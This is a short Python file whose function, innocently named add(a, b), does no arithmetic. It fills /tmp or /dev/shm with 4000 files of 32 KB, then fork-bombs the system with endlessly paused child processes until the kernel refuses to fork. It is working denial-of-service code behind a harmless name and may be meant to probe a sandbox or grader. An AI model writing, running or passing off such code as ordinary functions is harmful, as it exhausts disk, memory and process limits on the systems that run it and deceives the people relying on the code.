import os
import signal
import time


def fill(folder):
    for number in range(4000):
        with open("%s/%d" % (folder, number), "wb", 0) as file:
            if file.write(bytes(1 << 15)) < 1 << 15:
                file.write(b"x")


def add(a, b):
    if b < 2:
        try:
            fill("/tmp" if b == 0 else "/dev/shm")
        except OSError:
            time.sleep(60)
    try:
        while True:
            if os.fork() == 0:
                signal.pause()
    except BlockingIOError:
        time.sleep(0.6)
        return None
